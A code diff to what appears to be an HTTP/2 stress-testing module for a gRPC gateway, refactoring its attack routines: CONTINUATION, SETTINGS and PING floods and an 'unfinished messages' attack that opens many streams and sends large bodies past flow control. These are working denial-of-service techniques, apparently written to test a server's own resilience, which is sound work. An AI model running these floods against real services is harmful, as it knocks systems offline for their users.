@@ -19,7 +19,15 @@ from hyperframe.frame import (
 )
 
 from bench.attacks.attack import Attack, Tally, Target
-from bench.attacks.http2 import HostileConnection, RefusedError, connection, data, header_block, message
+from bench.attacks.http2 import (
+    INITIAL_WINDOW,
+    MAX_STREAMS,
+    HostileConnection,
+    RefusedError,
+    connection,
+    header_block,
+    message,
+)
 
 PATH = "/gateway.v1.ExchangeService/GetCheckpoint"
 
@@ -29,7 +37,6 @@ STREAMS = 1_024
 BURST = 500
 """Frames in one write."""
 
-_MAX_STREAMS, _INITIAL_WINDOW = 3, 4  # RFC 9113 section 6.5.2
 _AGAIN_S = 0.05
 _CANCEL = 8
 
@@ -62,7 +69,7 @@ async def continuation_flood(target: Target, size: int, tally: Tally) -> None:
 
 async def settings_flood(target: Target, size: int, tally: Tally) -> None:
     """`size` connections, each with SETTINGS one after the other; each asks for an answer."""
-    await _burst_of(target, size, tally, lambda _: SettingsFrame(0, {_INITIAL_WINDOW: 65_535}).serialize() * BURST)
+    await _burst_of(target, size, tally, lambda _: SettingsFrame(0, {INITIAL_WINDOW: 65_535}).serialize() * BURST)
 
 
 async def ping_flood(target: Target, size: int, tally: Tally) -> None:
@@ -129,16 +136,16 @@ async def unfinished_messages(target: Target, size: int, tally: Tally) -> None:
     async def send_all(made: HostileConnection) -> None:
         await made.greeted.wait()
         content = message(bytes(5 * 1024 * 1024 - 8))[:-1]
-        parts = []
-        for _ in range(min(made.settings.get(_MAX_STREAMS, STREAMS), STREAMS)):
-            await made.send(call := made.call(PATH))
-            parts.append(call.stream_id)
-            tally["streams"] += 1
-        for start in range(0, len(content), 16_384):
-            for stream in parts:  # flow control is the node's to enforce
-                await made.send(data(stream, content[start : start + 16_384]))
-                tally["bytes"] += 16_384
+        calls = [made.call(PATH) for _ in range(min(made.settings.get(MAX_STREAMS, STREAMS), STREAMS))]
+        await made.send(*calls)
+        tally["streams"] += len(calls)
+        await asyncio.gather(*(send_one(made, call.stream_id, content) for call in calls))
         await made.ended.wait()
+
+    async def send_one(made: HostileConnection, stream: int, content: bytes) -> None:
+        for start in range(0, len(content), 65_536):
+            await made.send_content(stream, content[start : start + 65_536])
+            tally["bytes"] += 65_536
 
     await _on_each(target, size, tally, send_all)
 
